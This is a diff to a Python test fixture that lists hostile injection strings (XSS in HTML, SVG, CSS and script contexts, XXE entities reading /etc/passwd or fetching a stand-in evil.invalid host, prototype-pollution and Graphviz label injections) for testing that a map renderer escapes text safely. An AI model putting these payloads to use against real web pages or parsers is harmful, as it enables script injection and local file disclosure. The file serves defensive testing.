@@ -1,65 +1,65 @@
-"""Texts of strangers that mean harm, for every language that a map's text is carried through.
+"""Hostile texts for every language that the text of a map is embedded in.
 
-Each tries to leave the place it is put into: as HTML, SVG, CSS, a script, JSON, XML, DOT or a label
-of Graphviz, or an address. One that got out would open a dialog, ask for something, or be gone from
-where it should be read.
+Each tries to escape from its context: HTML, SVG, CSS, a script, JSON, XML, DOT, a label of
+Graphviz, or a URL. A successful one opens a dialog, requests something, or is missing from where it
+should be shown.
 """
 
-_RUN = "alert(1)"
-_FAR = "https://evil.invalid/x"
+_CODE = "alert(1)"
+_URL = "https://evil.invalid/x"
 
 _ENDINGS = (
     *("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "\\", "</", "?>", "%>", "}}", "${"),
     *("</text>", "</title>", "</desc>", "</g></svg>", "</style>", "</script>", "</textarea>"),
     *("</h2>", "</option></select>", "</noscript>", "</template>", "</iframe>", "</xmp>"),
 )
-"""What a payload closes before it begins."""
+"""Prefixes that close the context of a payload."""
 
 _ELEMENTS = (
-    f"<script>{_RUN}</script>",
-    f"<img src=x onerror={_RUN}>",
-    f"<svg onload={_RUN}>",
+    f"<script>{_CODE}</script>",
+    f"<img src=x onerror={_CODE}>",
+    f"<svg onload={_CODE}>",
 )
 
 _MARKUP = (
-    f"<SCRIPT>{_RUN}</SCRIPT>",
-    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
-    f"<script src={_FAR}.js></script>",
+    f"<SCRIPT>{_CODE}</SCRIPT>",
+    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
+    f"<script src={_URL}.js></script>",
     "<script src=//evil.invalid/x.js></script>",
-    f"<script\n>{_RUN}</script\n>",
-    f"<script/x>{_RUN}</script>",
-    f"<<script>{_RUN}//<</script>",
-    f"<img/src=x/onerror={_RUN}//",
-    f"<img src={_FAR}.png>",
-    f'<img srcset="{_FAR} 1x">',
-    f"<body onload={_RUN}>",
-    f"<body background={_FAR}>",
-    f"<iframe src=javascript:{_RUN}></iframe>",
-    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
-    f"<object data={_FAR}></object>",
-    f"<embed src={_FAR}>",
-    f"<link rel=stylesheet href={_FAR}.css>",
-    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
-    f"<base href={_FAR}>",
-    f"<form action={_FAR}><button autofocus onfocus={_RUN}>x</button></form>",
-    f"<input autofocus onfocus={_RUN}>",
-    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
-    f"<video src={_FAR} onerror={_RUN}></video>",
-    f"<audio src={_FAR} onerror={_RUN}></audio>",
-    f"<marquee onstart={_RUN}>x</marquee>",
-    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}></style></mglyph></math>",
-    f"<a href=javascript:{_RUN}>x</a>",
-    f'<div style="background:url({_FAR})">x</div>',
-    f"<p tabindex=0 onfocus={_RUN} autofocus>x</p>",
-    f"<!--><script>{_RUN}</script>-->",
-    f"<!-- --!><img src=x onerror={_RUN}>",
-    f"<![CDATA[<script>{_RUN}</script>]]>",
-    f"<?xml-stylesheet href='{_FAR}.xsl' type='text/xsl'?>",
-    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_FAR}'>]>&y;",
+    f"<script\n>{_CODE}</script\n>",
+    f"<script/x>{_CODE}</script>",
+    f"<<script>{_CODE}//<</script>",
+    f"<img/src=x/onerror={_CODE}//",
+    f"<img src={_URL}.png>",
+    f'<img srcset="{_URL} 1x">',
+    f"<body onload={_CODE}>",
+    f"<body background={_URL}>",
+    f"<iframe src=javascript:{_CODE}></iframe>",
+    f"<iframe srcdoc='<script>{_CODE}</script>'></iframe>",
+    f"<object data={_URL}></object>",
+    f"<embed src={_URL}>",
+    f"<link rel=stylesheet href={_URL}.css>",
+    f"<meta http-equiv=refresh content='0;url={_URL}'>",
+    f"<base href={_URL}>",
+    f"<form action={_URL}><button autofocus onfocus={_CODE}>x</button></form>",
+    f"<input autofocus onfocus={_CODE}>",
+    f"<details open ontoggle={_CODE}><summary>x</summary></details>",
+    f"<video src={_URL} onerror={_CODE}></video>",
+    f"<audio src={_URL} onerror={_CODE}></audio>",
+    f"<marquee onstart={_CODE}>x</marquee>",
+    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_CODE}></style></mglyph></math>",
+    f"<a href=javascript:{_CODE}>x</a>",
+    f'<div style="background:url({_URL})">x</div>',
+    f"<p tabindex=0 onfocus={_CODE} autofocus>x</p>",
+    f"<!--><script>{_CODE}</script>-->",
+    f"<!-- --!><img src=x onerror={_CODE}>",
+    f"<![CDATA[<script>{_CODE}</script>]]>",
+    f"<?xml-stylesheet href='{_URL}.xsl' type='text/xsl'?>",
+    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{_URL}'>]>&y;",
     "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
-    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
-    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
-    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
+    f"&lt;script&gt;{_CODE}&lt;/script&gt;",
+    f"&#60;script&#62;{_CODE}&#60;/script&#62;",
+    f"&#x3c;img src=x onerror={_CODE}&#x3e;",
     "&amp;lt;b&amp;gt;",
     "&nosuch; &#0; &#xD800; &#x110000; &",
     "<plaintext>",
@@ -71,56 +71,56 @@ _MARKUP = (
 )
 
 _PICTURES = (
-    f"<svg><script>{_RUN}</script></svg>",
-    f"<svg><script href={_FAR}.js /></svg>",
-    f"<svg><script xlink:href=data:,{_RUN} /></svg>",
-    f"<svg><image href={_FAR}.png onerror={_RUN} /></svg>",
-    f"<svg><use href={_FAR}.svg#x /></svg>",
-    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s /></svg>",
-    f"<svg><set attributeName=onmouseover to={_RUN} /></svg>",
-    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
-    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
-    f"<svg><style>@import url({_FAR}.css);</style></svg>",
-    f"<svg><filter><feImage href={_FAR} /></filter></svg>",
-    f"<svg><handler ev:event=load>{_RUN}</handler></svg>",
-    f'" onload="{_RUN}" x="',
-    f"' onload='{_RUN}' x='",
-    f'" onmouseover={_RUN} style="position:fixed;inset:0',
-    f'x" transform="scale(99)" onclick="{_RUN}',
-    f'" autofocus tabindex="0" onfocus="{_RUN}',
-    f'"/><script xmlns="http://www.w3.org/2000/svg">{_RUN}</script><g id="',
+    f"<svg><script>{_CODE}</script></svg>",
+    f"<svg><script href={_URL}.js /></svg>",
+    f"<svg><script xlink:href=data:,{_CODE} /></svg>",
+    f"<svg><image href={_URL}.png onerror={_CODE} /></svg>",
+    f"<svg><use href={_URL}.svg#x /></svg>",
+    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s /></svg>",
+    f"<svg><set attributeName=onmouseover to={_CODE} /></svg>",
+    f"<svg><foreignObject><iframe src=javascript:{_CODE}></iframe></foreignObject></svg>",
+    f"<svg><a xlink:href=javascript:{_CODE}><text>x</text></a></svg>",
+    f"<svg><style>@import url({_URL}.css);</style></svg>",
+    f"<svg><filter><feImage href={_URL} /></filter></svg>",
+    f"<svg><handler ev:event=load>{_CODE}</handler></svg>",
+    f'" onload="{_CODE}" x="',
+    f"' onload='{_CODE}' x='",
+    f'" onmouseover={_CODE} style="position:fixed;inset:0',
+    f'x" transform="scale(99)" onclick="{_CODE}',
+    f'" autofocus tabindex="0" onfocus="{_CODE}',
+    f'"/><script xmlns="http://www.w3.org/2000/svg">{_CODE}</script><g id="',
 )
 
 _STYLES = (
-    f"}}*{{background:url({_FAR})}}",
-    f"@import '{_FAR}.css';",
-    f"expression({_RUN})",
-    f"url(javascript:{_RUN})",
-    f"</style><script>{_RUN}</script>",
+    f"}}*{{background:url({_URL})}}",
+    f"@import '{_URL}.css';",
+    f"expression({_CODE})",
+    f"url(javascript:{_CODE})",
+    f"</style><script>{_CODE}</script>",
     "}body{display:none}",
     "\\3c script\\3e",
     "/*",
     "*/",
-    f"@font-face{{font-family:x;src:url({_FAR})}}",
-    f"image-set('{_FAR}' 1x)",
+    f"@font-face{{font-family:x;src:url({_URL})}}",
+    f"image-set('{_URL}' 1x)",
     "#x{content:'\\0041'}",
 )
 
 _SCRIPTS = (
-    f'";{_RUN};//',
-    f"';{_RUN};//",
-    f"`;{_RUN};//",
-    f"${{{_RUN}}}",
-    f"{{{{constructor.constructor('{_RUN}')()}}}}",
-    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
-    f'\\";{_RUN};//',
-    f"\u2028{_RUN}\u2029",
-    f"\n{_RUN}\n//",
-    f"*/{_RUN}/*",
-    f"<!--<script>{_RUN}",
-    f"--></script><script>{_RUN}</script>",
-    f"</script ><script>{_RUN}</script>",
-    f"</SCRIPT><script>{_RUN}</script>",
+    f'";{_CODE};//',
+    f"';{_CODE};//",
+    f"`;{_CODE};//",
+    f"${{{_CODE}}}",
+    f"{{{{constructor.constructor('{_CODE}')()}}}}",
+    f"\\u003cscript\\u003e{_CODE}\\u003c/script\\u003e",
+    f'\\";{_CODE};//',
+    f"\u2028{_CODE}\u2029",
+    f"\n{_CODE}\n//",
+    f"*/{_CODE}/*",
+    f"<!--<script>{_CODE}",
+    f"--></script><script>{_CODE}</script>",
+    f"</script ><script>{_CODE}</script>",
+    f"</SCRIPT><script>{_CODE}</script>",
     '"},{"__proto__":{"x":1}},{"',
     '{"__proto__": {"isAway": true}}',
     "__proto__",
@@ -138,7 +138,7 @@ _GRAPHS = (
     '"; } digraph { a -> b [URL="javascript:alert(1)"]; "',
     ">]; x -> y [label=<",
     "<IMG SRC='/etc/passwd'/>",
-    f"<IMG SRC='{_FAR}.png'/>",
+    f"<IMG SRC='{_URL}.png'/>",
     "<TABLE><TR><TD HREF='javascript:alert(1)'>x</TD></TR></TABLE>",
     "<BR/><B>x</B><FONT COLOR='red'>y</FONT>",
     "\\N \\G \\E \\T \\H \\L",
@@ -219,7 +219,7 @@ ADDRESSES = (
     "#x",
     "?x",
 )
-"""What is given as a web address; it may be linked if it is one, and never in another scheme."""
+"""URLs; only those with a safe scheme may be linked."""
 
 VECTORS: tuple[str, ...] = tuple(
     dict.fromkeys(
@@ -229,4 +229,4 @@ VECTORS: tuple[str, ...] = tuple(
         ]
     )
 )
-"""All of them, each once."""
+"""All hostile texts, without duplicates."""
